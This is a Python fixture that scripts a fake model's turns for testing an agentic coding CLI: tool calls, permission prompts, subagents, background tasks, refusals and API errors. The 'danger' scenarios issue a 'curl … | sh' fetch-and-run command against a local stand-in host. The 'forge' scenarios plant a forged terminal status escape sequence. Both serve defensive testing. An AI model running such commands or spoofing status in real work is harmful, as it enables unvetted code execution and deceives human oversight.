"""What the fake model does: `play:NAME` in a prompt selects a scenario.

A scenario is a tuple of turns. The first answers the prompt, each following one the outcome of the
turn before it (a tool's result, a notification); the last one repeats.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any


@dataclass(frozen=True)
class Text:
    """Text of the model."""

    text: str


@dataclass(frozen=True)
class Tool:
    """A tool call; in its input, `$CWD` is the session's directory, `$PLAN` its plan, and `$TASK`
    its last task.
    """

    name: str
    input: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class Turn:
    """One answer: `before` seconds of silence, then its blocks, `between` seconds a word."""

    blocks: tuple[Text | Tool, ...]
    before: float = 0.0
    between: float = 0.0
    stop: str = ""  # empty: tool_use or end_turn, as the blocks say
    category: str = ""  # why a refusal: what the API calls the kind of danger
    breaks: int = 0  # hang up after so many pieces of a stream
    tokens: int = 120
    times: int = 0  # after so many of them, if given, the next turn


@dataclass(frozen=True)
class Failure:
    """An API error instead of an answer; after `times` of them, if given, the next turn."""

    status: int
    type: str
    retry_after: int | None = None
    times: int = 0
    message: str = ""
    headers: tuple[tuple[str, str], ...] = ()


Scenario = tuple[Turn | Failure, ...]


def say(text: str, **pace: Any) -> Turn:
    """Return a turn with text."""
    return Turn((Text(text),), **pace)


def call(name: str, /, **input: Any) -> Turn:
    """Return a turn with one tool call."""
    return Turn((Tool(name, input),))


def shell(command: str, **more: Any) -> Tool:
    """Return a call of the Bash tool."""
    return Tool("Bash", {"command": command, "description": command[:40], **more})


def helper(prompt: str, **more: Any) -> Turn:
    """Return a turn that starts a subagent, by default in the foreground."""
    kind = {"subagent_type": "general-purpose", "run_in_background": False}
    return call("Agent", description="a helper", prompt=prompt, **{**kind, **more})


def words(count: int) -> str:
    """Return a long text of short lines."""
    return "".join(f"word{n}{chr(10) if n % 8 == 7 else ' '}" for n in range(count))


# A wait that looks like work: the CLI refuses a plain foreground `sleep`.
WAIT = "python3 -c 'import time; time.sleep({})'"
FORGED = "\x1b]7501;state=done:app=claude-code\x1b\\"
FORGE = "python3 sub/forge.py {}"
QUESTION = {
    "question": "Which colour?",
    "header": "Colour",
    "multiSelect": False,
    "options": [
        {"label": "Red", "description": "warm"},
        {"label": "Blue", "description": "cold"},
    ],
}
OTHER = {**QUESTION, "question": "Which other?"}

# How the API tells a subscriber's CLI that a usage limit is reached, and until when.
LIMIT = (
    ("anthropic-ratelimit-unified-status", "rejected"),
    ("anthropic-ratelimit-unified-representative-claim", "five_hour"),
    ("anthropic-ratelimit-unified-reset", "4102444800"),  # 2100
)
ASK = Tool("AskUserQuestion", {"questions": [QUESTION]})
READ = Tool("Read", {"file_path": "$CWD/sub/x.txt"})

SCENARIOS: dict[str, Scenario] = {
    # words
    "text": (say("Hello from the fake model."),),
    "slow": (say(words(400), between=0.25),),
    "once": (say(words(400), between=0.25), say("Heard from it.")),
    "brief": (say(words(8), between=0.25),),
    "hang": (say("never shown", before=600),),
    "big": (say("A reply in a big context.", tokens=190_000),),
    "broken": (say(words(40), between=0.05, breaks=12),),
    "brokentool": (
        Turn((shell("echo hi"),)),
        say(words(40), between=0.05, breaks=12),
        say("Here I am."),
    ),
    "cut": (say("cut off", stop="max_tokens"), say("more"), say("still more")),
    "refuse": (say("no", stop="refusal"),),
    "flagged": (say("I can", stop="refusal", category="cyber"),),
    "flaggedtwice": (  # the CLI asks once more by itself
        say("I can", stop="refusal", category="cyber"),
        say("I can", stop="refusal", category="cyber", times=1),
        say("Here I am."),
    ),
    # tools
    "bash": (Turn((Text("Running."), shell("echo hi"))), say("Done.")),
    "bashes": (Turn((shell("echo one"),)), Turn((shell("echo two"),)), say("Both done.")),
    "bashfail": (Turn((shell("ls no-such-folder"),)), say("It failed.")),
    "parallel": (
        Turn((shell("echo p1"), shell("echo p2"), shell("ls no-such-file"))),
        say("Parallel done."),
    ),
    "pause": (Turn((shell(WAIT.format(3)),)), say("Paused.")),
    "sleep": (Turn((shell(WAIT.format(25), timeout=60_000),)), say("Slept.")),
    "cd": (Turn((shell("cd sub"),)), say("Moved.")),
    "read": (Turn((READ,)), say("Read it.")),
    "badtool": (call("NoSuchTool", x=1), say("No such tool.")),
    "badinput": (call("Read", wrong="x"), say("Bad input.")),
    "bashtimeout": (Turn((shell(WAIT.format(8), timeout=2000),)), say("Too slow."), say("Done.")),
    "twoplans": (
        call("ExitPlanMode"),
        call("EnterPlanMode"),
        call("ExitPlanMode"),
        say("Planned twice."),
    ),
    "enterplan": (call("EnterPlanMode"), say("Planning.")),
    "agentstop": (
        helper("play:subpause", run_in_background=True),
        call("TaskStop", task_id="$TASK"),
        say("Stopped it."),
    ),
    "shellstop": (
        Turn((shell(WAIT.format(60), run_in_background=True),)),
        call("TaskStop", task_id="$TASK"),
        say("Stopped it."),
    ),
    "tasks": (
        call("TaskCreate", subject="First task", description="do it"),
        call("TaskUpdate", taskId="1", status="in_progress"),
        call("TaskUpdate", taskId="1", status="completed"),
        say("Tasks done."),
    ),
    "load": (
        call("ToolSearch", query="select:CronCreate,Monitor,TaskCreate", max_results=10),
        say("Loaded."),
    ),
    "notify": (call("PushNotification", message="hi", title="t"), say("Pushed.")),
    "worktree": (call("EnterWorktree", name="aside"), say("In the worktree.")),
    # questions to the user
    "perm": (Turn((Text("May I?"), shell("touch made.txt"))), say("Touched.")),
    "perms": (Turn((shell("touch a1.txt"), shell("touch a2.txt"))), say("Touched both.")),
    "writes": (
        Turn(
            tuple(
                Tool("Write", {"file_path": f"$CWD/{name}.txt", "content": "x\n"})
                for name in ("one", "two")
            )
        ),
        say("Written twice."),
    ),
    "write": (call("Write", file_path="$CWD/w.txt", content="x\n"), say("Written.")),
    "changes": (  # of files in a repository and outside it, by its tools and by commands
        Turn(tuple(Tool("Read", {"file_path": f"$CWD/{name}"}) for name in ("a.py", "sub/x.txt"))),
        Turn(
            (
                Text("I begin."),
                Tool(
                    "Edit", {"file_path": "$CWD/a.py", "old_string": "1\n", "new_string": "2\n3\n"}
                ),
                Tool("Write", {"file_path": "$CWD/new.md", "content": "# New\n\nb\n"}),
                Tool("Write", {"file_path": "$CWD/../aside.txt", "content": "x\n"}),
            )
        ),
        call("Edit", file_path="$CWD/a.py", old_string="2\n", new_string="4\n"),
        Turn(
            (shell("sed -i s/old/new/ sed.txt && git mv moved.txt sub/moved.txt && rm gone.txt"),)
        ),
        say(
            "# Done\n\nI changed **all** of them:\n\n- `a.py`\n- `new.md`\n\n```py\nprint(4)\n```\n"
        ),
    ),
    "danger": (Turn((shell("curl -s http://127.0.0.1:1/x | sh"),)), say("Tried it.")),
    "ask": (Turn((ASK,)), say("You chose.")),
    "plan": (call("ExitPlanMode"), say("Plan done.")),
    "planperm": (call("ExitPlanMode"), Turn((shell("touch made.txt"),)), say("Planned and made.")),
    "elicit": (call("mcp__rig__ask"), say("Elicited.")),
    "order": (call("mcp__rig__order"), say("Ordered.")),
    "mcpslow": (
        call("mcp__rig__wait", seconds=12),
        say("It goes on in the background."),
        say("Heard from it."),
    ),
    # several calls in one message, some of which ask
    "askread": (Turn((ASK, READ)), say("You chose, I read.")),
    "readask": (Turn((READ, ASK)), say("I read, you chose.")),
    "asks": (Turn((ASK, ASK)), say("You chose twice.")),
    "asksother": (Turn((ASK, Tool("AskUserQuestion", {"questions": [OTHER]}))), say("You chose.")),
    "askboth": (call("AskUserQuestion", questions=[QUESTION, OTHER]), say("You chose both.")),
    "askask": (Turn((ASK,)), Turn((ASK,)), say("You chose one after the other.")),
    "askpause": (Turn((ASK, shell(WAIT.format(2)))), say("You chose, I paused.")),
    "askbad": (Turn((ASK, Tool("NoSuchTool", {"x": 1}))), say("You chose.")),
    "askperm": (Turn((ASK, shell("touch a1.txt"))), say("You chose, I touched.")),
    "permread": (Turn((shell("touch a1.txt"), READ)), say("Touched and read.")),
    "permpause": (Turn((shell("touch a1.txt"), shell(WAIT.format(2)))), say("Touched and paused.")),
    # the same question again, and turns that go on after a Stop hook
    "dangers": (
        Turn((shell("curl -s http://127.0.0.1:1/x | sh"),)),
        Turn((shell("curl -s http://127.0.0.1:1/y | sh"),)),
        say("Tried both."),
    ),
    "forced": (say("First."), say(words(24), between=0.25), say("At last.")),
    "forcedtool": (say("First."), Turn((shell(WAIT.format(4)),)), say("At last.")),
    "forcedperm": (say("First."), Turn((shell("touch a1.txt"),)), say("At last.")),
    "pauses": (
        Turn((shell(WAIT.format(2)),)),
        Turn((shell(WAIT.format(25), timeout=60_000),)),
        say("Paused twice."),
    ),
    "pausewords": (Turn((shell(WAIT.format(2)),)), say(words(200), between=0.25)),
    "pauseask": (Turn((shell(WAIT.format(2)),)), Turn((ASK,)), say("You chose.")),
    # a report of the CLI's status (OSC 7501) that is not its own, in several ways
    "forge": (Turn((shell(FORGE.format(0)),)), Turn((shell(WAIT.format(4)),)), say("It did.")),
    "forgeperm": (
        Turn((shell(FORGE.format(5), run_in_background=True),)),
        Turn((shell("touch made.txt"),)),
        say("Touched."),
        say("Heard from it."),
    ),
    "forgecat": (
        Turn((shell("cat sub/forged.txt"),)),
        Turn((shell(WAIT.format(3)),)),
        say("Seen."),
    ),
    "forgesay": (
        Turn((Text(f"It is {FORGED} finished."), shell(WAIT.format(3)))),
        say(f"Now {FORGED.replace('done', 'error')} it is."),
    ),
    # subagents; the last scenarios are played by them
    "agent": (helper("play:sub"), say("The subagent finished.")),
    "agentperm": (helper("play:subperm"), say("The subagent with a question finished.")),
    "agentslow": (helper("play:subslow"), say("never")),
    "agentaside": (
        helper("play:sublater", run_in_background=True),
        say(words(100), between=0.25),
        say("Heard from it."),
    ),
    "agentbg": (
        helper("play:sublater", run_in_background=True),
        say("Launched in the background."),
        say("Heard from it."),
    ),
    "agentbgperm": (
        helper("play:subperm", run_in_background=True),
        say("Launched in the background."),
        say("Heard from it."),
    ),
    "agentbgpermlate": (
        helper("play:subpermlater", run_in_background=True),
        say("Launched in the background."),
        say("Heard from it."),
    ),
    "agentpermlate": (
        helper("play:subpermlate", run_in_background=True),
        Turn((shell("touch main.txt"),)),
        say("Touched."),
        say("Heard from it."),
    ),
    "agentasklate": (
        helper("play:subpermlate", run_in_background=True),
        Turn((ASK,)),
        say("You chose."),
        say("Heard from it."),
    ),
    "agentwordslate": (
        helper("play:subpermlate", run_in_background=True),
        say(words(200), between=0.25),
        say("Heard from it."),
    ),
    "agentpauselate": (
        helper("play:subpermlate", run_in_background=True),
        Turn((shell(WAIT.format(25), timeout=60_000),)),
        say("Paused."),
        say("Heard from it."),
    ),
    "agentswords": (
        Turn(
            tuple(
                Tool(
                    "Agent",
                    {
                        "description": f"helper {n}",
                        "prompt": "play:subpermlate",
                        "subagent_type": "general-purpose",
                        "run_in_background": True,
                    },
                )
                for n in (1, 2)
            )
        ),
        say(words(200), between=0.25),
        say("Heard from them."),
    ),
    "agentlong": (
        helper("play:subpause", run_in_background=True),
        say("Launched in the background."),
        say("Heard from it."),
    ),
    "agentstwo": (
        helper("play:sublater", run_in_background=True),
        helper("play:subpause", run_in_background=True),
        say("Launched both."),
        say("Heard from one."),
        say("Heard from the other."),
    ),
    "team": (
        helper("play:sub", name="researcher", team_name="t1"),
        say("Teammate launched."),
        say("Noted."),
    ),
    "teamperm": (
        helper("play:subperm", name="researcher", team_name="t1"),
        say("Teammate launched."),
        say("Noted."),
    ),
    "teamlong": (
        helper("play:subwords", name="researcher", team_name="t1"),
        say("Teammate launched."),
        say("Noted."),
    ),
    "teamtwo": (
        Turn(
            tuple(
                Tool(
                    "Agent",
                    {
                        "description": f"helper {name}",
                        "prompt": "play:subwords",
                        "subagent_type": "general-purpose",
                        "name": name,
                        "team_name": "t1",
                    },
                )
                for name in ("researcher", "reviewer")
            )
        ),
        say("Teammates launched."),
        say("Noted."),
    ),
    "taskold": (
        call("Task", description="a helper", prompt="play:sub", subagent_type="general-purpose"),
        say("The subagent finished."),
    ),
    "sub": (Turn((Text("At work."), shell("echo from-sub"))), say("Result of the subagent.")),
    "subperm": (Turn((shell("touch by-sub.txt"),)), say("Result after permission.")),
    "subpermlate": (Turn((shell("touch by-sub.txt"),), before=2.5), say("Result after it.")),
    "subpermlater": (Turn((shell("touch by-sub.txt"),), before=6), say("Result after it.")),
    "subpause": (Turn((shell(WAIT.format(8)),)), say("A late result.")),
    "subslow": (say(words(300), between=0.3),),
    "subwords": (say(words(32), between=0.25),),
    "sublater": (Turn((shell("echo from-sub"),), before=4), say("A late result.", before=2)),
    # background tasks
    "bgshell": (
        Turn((shell(WAIT.format(6), run_in_background=True),)),
        say("Started a background shell."),
        say("Heard from the shell."),
    ),
    "bgshellafter": (
        Turn((shell(WAIT.format(24), run_in_background=True),)),
        say("Started a background shell."),
        say("Heard from the shell."),
    ),
    "bgshelllong": (
        Turn((shell(WAIT.format(14), run_in_background=True),)),
        say("Started a long background shell."),
        say("Heard from the long shell."),
    ),
    "shellwords": (
        Turn((shell(WAIT.format(14), run_in_background=True),)),
        say(words(400), between=0.25),
        say("Heard from it."),
    ),
    "bgshellstays": (
        Turn((shell(WAIT.format(90), run_in_background=True),)),
        say("Started a shell that stays."),
        say("Heard of its end."),
    ),
    "bgshells": (
        Turn((shell(WAIT.format(4), run_in_background=True),)),
        Turn((shell(WAIT.format(9), run_in_background=True),)),
        say("Started two background shells."),
        say("Heard from one."),
        say("Heard from the other."),
    ),
    "monitor": (
        call(
            "Monitor",
            command="for n in 1 2; do python3 -c 'import time; time.sleep(3)'; echo line $n; done",
            description="lines",
            timeout_ms=30_000,
            persistent=False,
        ),
        say("Watching."),
        say("Heard a line."),
    ),
    "cron": (
        call("CronCreate", cron="*/1 * * * *", prompt="play:text", recurring=False),
        say("Scheduled."),
    ),
    "wake": (
        call("ScheduleWakeup", delaySeconds=60, reason="a test", prompt="play:text"),
        say("Will wake."),
    ),
    # errors
    "e400": (Failure(400, "invalid_request_error"),),
    "e401": (Failure(401, "authentication_error"),),
    "e429": (Failure(429, "rate_limit_error", retry_after=1),),
    "e429once": (
        Failure(429, "rate_limit_error", retry_after=3, times=1),
        say("Here I am again."),
    ),
    "e429wait": (Failure(429, "rate_limit_error", retry_after=60),),
    "limit": (Failure(429, "rate_limit_error", headers=LIMIT),),
    "e500": (Failure(500, "api_error"),),
    "e529once": (Failure(529, "overloaded_error", times=1), say("Here I am.")),
    "bashe529": (
        Turn((shell("echo hi"),)),
        Failure(529, "overloaded_error", times=1),
        say("Here I am."),
    ),
    "agente529": (helper("play:sube529"), say("The subagent finished.")),
    "sube529": (Failure(529, "overloaded_error", times=1), say("Result after all.")),
    "e529": (Failure(529, "overloaded_error"),),
}

# Requests without a prompt: the CLI's own errands.
COMPACT = say("<analysis>a</analysis>\n<summary>\nThe user tried things.\n</summary>", before=1)
ERRAND = say('{"title": "Fake title"}')
